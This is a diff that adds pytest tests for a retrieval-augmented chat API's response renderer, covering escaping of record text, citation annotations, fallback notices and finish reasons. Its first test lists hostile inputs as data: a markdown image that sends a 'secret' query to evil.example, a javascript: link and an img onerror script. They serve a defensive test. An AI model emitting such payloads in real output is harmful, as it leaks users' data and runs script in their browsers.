@@ -1,0 +1,91 @@
+from __future__ import annotations
+
+import re
+
+import pytest
+
+from shrag.serving.api.chat_completions.response import ChatText, defuse
+from shrag.serving.events import Answer, AnswerSentence, Citation, Fallback, Ranking, Section, Sentence
+
+
+@pytest.mark.parametrize(
+    ("hostile", "shown"),
+    [
+        ("![x](http://evil.example/?q=secret)", r"!\[x]\(http://evil.example/?q=secret)"),
+        ("![x][ref]", r"!\[x]\[ref]"),
+        ("[ref]: http://evil.example", r"[ref]\: http://evil.example"),
+        ("[click](javascript:alert(1))", r"[click]\(javascript:alert(1))"),
+        ("<img src=x onerror=alert(1)>", r"\<img src=x onerror=alert(1)>"),
+        ("</div><!-- a -->", r"\</div>\<!-- a -->"),
+        ("<http://evil.example>", r"\<http://evil.example>"),
+        ("```html", r"``\`html"),
+        ("p < 0.05 [1], 30 > 20", "p < 0.05 [1], 30 > 20"),
+    ],
+)
+def test_no_picture_link_or_html_can_be_made_of_a_records_text(hostile: str, shown: str) -> None:
+    assert defuse(hostile) == shown
+
+
+def _text() -> ChatText:
+    return ChatText("en", lambda docid: f"/d?{docid}")
+
+
+def _answer(*citations: Citation) -> Answer:
+    sentence = Sentence("It rose by 3%.", (1, 2))
+    return Answer("extractive", "en", (Section("body", (sentence,)),), citations)
+
+
+def test_parts_have_headings_sentences_their_marks_and_doubts_their_words() -> None:
+    text = _text()
+    said = [
+        text.feed(AnswerSentence("title", Sentence("Work <b>at home</b>", (1,)))),
+        text.feed(AnswerSentence("body", Sentence("It rose by 3%.", (1, 2)))),
+        text.feed(AnswerSentence("body", Sentence("It fell.", (), sound=False, doubt="no_citation"))),
+    ]
+    assert said == [
+        "## Work \\<b>at home\\</b>",
+        "\n\n### Main Body\n\nIt rose by 3%. [1][2]",
+        " It fell. (⚠ cites no record)",
+    ]
+    assert text.text == "".join(said)
+    assert text.annotations == ()
+
+
+def test_sources_stand_at_the_end_and_each_annotation_points_at_its_first_mark() -> None:
+    text = _text()
+    text.feed(AnswerSentence("body", Sentence("It rose by 3%.", (1, 2))))
+    text.feed(AnswerSentence("body", Sentence("So it did.", (2,))))
+    last = text.feed(_answer(Citation(1, "a#1", "![A](http://x)"), Citation(2, "b", "")))
+    assert last.endswith("**Sources**\n\n- [1] !\\[A]\\(http://x) (a#1)\n- [2]  (b)")
+    first, second = (one.url_citation for one in text.annotations)
+    assert (text.text[first.start_index : first.end_index], first.url) == ("[1]", "/d?a#1")
+    assert (text.text[second.start_index : second.end_index], second.title) == ("[2]", "b")
+    assert second.start_index == first.end_index
+    assert text.finish_reason == "stop"
+
+
+def test_marks_of_what_was_broken_off_are_not_the_answers() -> None:
+    text = _text()
+    text.feed(AnswerSentence("body", Sentence("Broken off.", (1,))))
+    notice = text.feed(Fallback("answer", "unavailable", "gone"))
+    assert notice == "\n\n> The language model does not answer; this was done without it."
+    again = text.feed(AnswerSentence("body", Sentence("It rose by 3%.", (1,))))
+    assert again == "\n\n### Main Body\n\nIt rose by 3%. [1]"
+    text.feed(_answer(Citation(1, "a", "A")))
+    (only,) = text.annotations
+    assert only.url_citation.start_index > len("### Main Body\n\nBroken off. [1]" + notice)
+
+
+def test_an_answer_with_nothing_is_its_reason_and_other_events_add_nothing() -> None:
+    text = _text()
+    assert text.feed(Ranking((), "r", False)) == ""
+    assert text.feed(Fallback("keywords", "unavailable", "gone")) == ""
+    reason = text.feed(Answer("extractive", "en", (), (), "unknown_words"))
+    assert re.fullmatch(r"None of the question's words .*", reason)
+    assert text.annotations == ()
+
+
+def test_an_answer_cut_short_says_so() -> None:
+    text = _text()
+    text.feed(Answer("generated", "en", (), (), "", "m", None, complete=False))
+    assert text.finish_reason == "length"
